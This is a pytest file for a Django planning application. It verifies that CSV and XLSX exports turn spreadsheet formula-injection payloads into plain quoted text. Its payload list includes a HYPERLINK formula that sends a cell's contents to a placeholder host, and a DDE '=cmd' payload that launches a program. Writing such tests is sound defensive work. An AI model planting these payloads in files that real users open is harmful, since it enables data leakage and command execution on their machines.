"""Formula injection: no CSV or XLSX that socplan writes carries a formula, whatever the names in the data.

The probe's payloads (a service name ``=HYPERLINK("http://…"&B2,"Klikni")``, a measure title
``=cmd|' /C calc'!A0``, ``+1+1``, ``@SUM(A1)``, ``-2+3`` as text, the full-width ``＝``) are put into the names
every export prints (services, providers, measures, obce, ORP, target groups); then each export is downloaded
through the site (or run as a command) and opened with the csv module / openpyxl: no cell is a formula, every
formula-like text is a text cell marked with quotePrefix (XLSX) or starts with an apostrophe (CSV), the text
itself is kept, and numbers (negative ones included) stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db.models import F
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from socplan.core.render import safe_cells
from socplan.core.render.blocks import CZK, TEXT, Column, Table
from socplan.core.render.safe_cells import formula_like
from socplan.core.render.spreadsheet import xlsx_workbook
from tests.factories import ProviderFactory, RegisteredServiceFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&B2,"Klikni")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\uff1dSUM(1,2)",  # full-width =
]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _poison(queryset, field: str) -> None:
    """Give the rows of `queryset` the payloads as `field`, in turn."""
    for i, payload in enumerate(PAYLOADS):
        pks = queryset.annotate(turn=F("pk") % len(PAYLOADS)).filter(turn=i).values("pk")
        queryset.model.objects.filter(pk__in=pks).update(**{field: payload})


@pytest.fixture
def poisoned(db, settings, tmp_path):
    """Every service, provider, measure, priority, ORP, okres and target group of the demo carries a payload as its
    name, and one new service (with its provider) is made with the factories. Generated files (catalogue downloads,
    stored document renderings) go to a fresh media folder, so no file written earlier is served."""
    settings.MEDIA_ROOT = tmp_path / "media"
    from socplan.catalogue.services import catalogue_refresh
    from socplan.planning.models import Measure, Priority
    from socplan.registry.models import Provider, Service, TargetGroup
    from socplan.territory.models import District, Orp

    _poison(Service.objects.all(), "name")
    _poison(Provider.objects.all(), "name")
    _poison(Measure.objects.all(), "title")
    _poison(Priority.objects.all(), "title")
    _poison(TargetGroup.objects.all(), "name")
    _poison(Orp.objects.filter(region__code="CZ064"), "name")
    _poison(District.objects.filter(region__code="CZ064"), "name")
    provider = ProviderFactory(name="@SUM(A1)")
    service = RegisteredServiceFactory(name='=HYPERLINK("http://x.example/?d="&B2,"Klikni")', provider=provider)
    catalogue_refresh()
    return service


def _login(client, username: str):
    client.force_login(get_user_model().objects.get(username=username))


def _body(response) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def _check_xlsx(content: bytes, *, expect: set[str]) -> dict[str, int]:
    """Open the workbook; no formula cell; every formula-like text is a quote-prefixed text cell. Returns how often
    each payload occurs (so the caller knows the payloads really went through)."""
    wb = load_workbook(io.BytesIO(content))
    seen: dict[str, int] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                if cell.value in PAYLOADS:
                    seen[cell.value] = seen.get(cell.value, 0) + 1
    assert expect <= set(seen), f"payloads missing from the workbook: {expect - set(seen)}"
    return seen


def _check_csv(text: str, *, expect: set[str]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    bad = [c for c in cells if formula_like(c)]
    assert not bad, bad[:5]
    present = {p for p in PAYLOADS if "'" + p in cells}
    assert expect <= present, f"payloads missing from the CSV: {expect - present}"
    return rows


# --- the writers themselves -------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS + ["\t=1+1", "\r=1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"])
def test_formula_like_texts(text):
    assert formula_like(text)
    assert safe_cells.csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Pečovatelská služba", "", "-5", "+3.5", "-1e3", "12,5", -5, Decimal("-2.5"),
                                   0, None, " =1"])
def test_plain_texts_and_numbers_stay_as_they_are(value):
    assert not formula_like(value)
    assert safe_cells.csv_value(value) == value


def test_csv_writers_neutralise_and_keep_numbers():
    buf = io.StringIO()
    w = safe_cells.csv_writer(buf, lineterminator="\n")
    w.writerow(["-2+3", -5, Decimal("-2.5"), "=1+1", "ok"])
    w.writerows([["@SUM(A1)"]])
    d = safe_cells.csv_dict_writer(buf, ["a", "b"], lineterminator="\n")
    d.writerows([{"a": "+1+1", "b": -7}])
    assert buf.getvalue().splitlines() == ["'-2+3,-5,-2.5,'=1+1,ok", "'@SUM(A1)", "'+1+1,-7"]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_helpers_write_text_cells_and_real_numbers(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x")
    safe_cells.xlsx_append(ws, PAYLOADS + [-5, Decimal("-2.5"), "ok", "a\x00b"])
    if not write_only:
        ws["A2"] = "=1+1"  # written around the helpers: the save sweeps it
        safe_cells.xlsx_put(ws, 3, 1, "@x")
    ws2 = load_workbook(io.BytesIO(safe_cells.xlsx_save(wb)))["x"]
    row = list(ws2[1])
    assert [c.value for c in row[:len(PAYLOADS)]] == PAYLOADS
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:len(PAYLOADS)])
    n = len(PAYLOADS)
    assert (row[n].value, row[n].data_type) == (-5, "n")
    assert (row[n + 1].value, row[n + 1].data_type) == (-2.5, "n")
    assert (row[n + 2].value, row[n + 2].quotePrefix) == ("ok", False)
    assert row[n + 3].value == "ab"  # a character XLSX cannot hold is dropped, not a crash
    if not write_only:
        assert (ws2["A2"].value, ws2["A2"].data_type, ws2["A2"].quotePrefix) == ("=1+1", "s", True)
        assert ws2["A3"].quotePrefix


def test_table_workbook_keeps_negative_numbers():
    table = Table([Column("Název", TEXT), Column("Částka", CZK)],
                  [["-2+3", Decimal("-1500")], ["=cmd|' /C calc'!A0", Decimal("2500")]],
                  title="Opatření", totals=["=SUM(B2:B3)", Decimal("1000")], note="@poznámka")
    ws = load_workbook(io.BytesIO(xlsx_workbook([table])))["Opatření"]
    assert (ws["A2"].value, ws["A2"].data_type, ws["A2"].quotePrefix) == ("-2+3", "s", True)
    assert (ws["B2"].value, ws["B2"].data_type) == (-1500, "n")
    assert (ws["A4"].value, ws["A4"].data_type) == ("=SUM(B2:B3)", "s")
    assert ws["A6"].value == "@poznámka" and ws["A6"].quotePrefix


# --- every export, through the site ------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["katalog.csv", "sit.csv"])
def test_catalogue_open_data_csv(client, poisoned, name):
    text = _body(client.get(f"/katalog/data/{name}")).decode("utf-8-sig")
    rows = _check_csv(text, expect=set(PAYLOADS))
    header = rows[0]
    if name == "katalog.csv":
        mine = next(r for r in rows[1:] if r[header.index("id")] == str(poisoned.pk))
        assert mine[header.index("nazev")] == "'" + poisoned.name
        assert mine[header.index("poskytovatel")] == "'@SUM(A1)"


@pytest.mark.parametrize("name", ["katalog.xlsx", "sit.xlsx"])
def test_catalogue_open_data_xlsx(client, poisoned, name):
    _check_xlsx(_body(client.get(f"/katalog/data/{name}")), expect=set(PAYLOADS))


def test_registry_provider_template(client, poisoned):
    from socplan.registry.demo import DEMO_YEAR

    _login(client, "kraj-spravce")
    response = client.get(reverse("registry:provider_xlsx_template", args=[poisoned.provider.pk]), {"rok": DEMO_YEAR})
    assert response["Content-Type"] == XLSX_TYPE
    wb = load_workbook(io.BytesIO(_body(response)))
    names = [c.value for c in wb["Služby"]["D"][1:]]
    assert poisoned.name in names  # the text is kept
    _check_xlsx(_body(response), expect={poisoned.name})


def test_network_diff(client, poisoned):
    from socplan.network.models import NetworkVersion

    v0, v1 = (NetworkVersion.objects.get(region__code="CZ064", year=2025, amendment=a) for a in (0, 1))
    _login(client, "kraj-referent")
    response = client.get(reverse("network:diff_xlsx", args=[v0.pk, v1.pk]))
    assert response["Content-Type"] == XLSX_TYPE
    _check_xlsx(_body(response), expect={"+1+1", "@SUM(A1)", "-2+3"})


def test_evaluation_results(client, poisoned):
    from socplan.registry.demo import DEMO_YEAR

    _login(client, "kraj-referent")
    response = client.get(reverse("evaluation:results_xlsx", args=["CZ064", DEMO_YEAR]))
    seen = _check_xlsx(_body(response), expect=set(PAYLOADS))
    assert sum(seen.values()) > 20
    ws = load_workbook(io.BytesIO(_body(response)))["Výsledky"]
    assert all(isinstance(r[6], int | float) for r in ws.iter_rows(min_row=2, values_only=True)
               if isinstance(r[0], int))  # scores are numbers


def test_finance_chapter(client, poisoned):
    from socplan.registry.demo import DEMO_YEAR

    _login(client, "kraj-referent")
    response = client.get(reverse("finance:chapter_xlsx", args=["CZ064", DEMO_YEAR]))
    _check_xlsx(_body(response), expect={PAYLOADS[0]})


def test_plan_documents(client, poisoned):
    from socplan.planning.models import ActionPlan, Measure, Plan

    plan = Plan.objects.filter(orp__code="6201", year_from=2015).get()
    Measure.objects.filter(pk=plan.measures.order_by("pk").values("pk")[:1]).update(title="=cmd|' /C calc'!A0")
    _check_xlsx(_body(client.get(f"/planovani/plan/{plan.pk}/dokument.xlsx")), expect={"=cmd|' /C calc'!A0"})
    ap = ActionPlan.objects.filter(plan=plan).order_by("-year").first()
    _login(client, "kraj-referent")
    _check_xlsx(_body(client.get(f"/planovani/akcni-plan/{ap.pk}/dokument.xlsx")), expect={"=cmd|' /C calc'!A0"})


def test_availability_command_csv(poisoned):
    from socplan.territory.models import Municipality

    _poison(Municipality.objects.filter(district__code="CZ0641"), "name")
    out = io.StringIO()
    call_command("accessibility", "--kind", "49", "--region", "CZ064", "--csv", stdout=out)
    rows = _check_csv(out.getvalue(), expect=set(PAYLOADS))
    assert rows[0][:3] == ["obec", "name", "orp"]
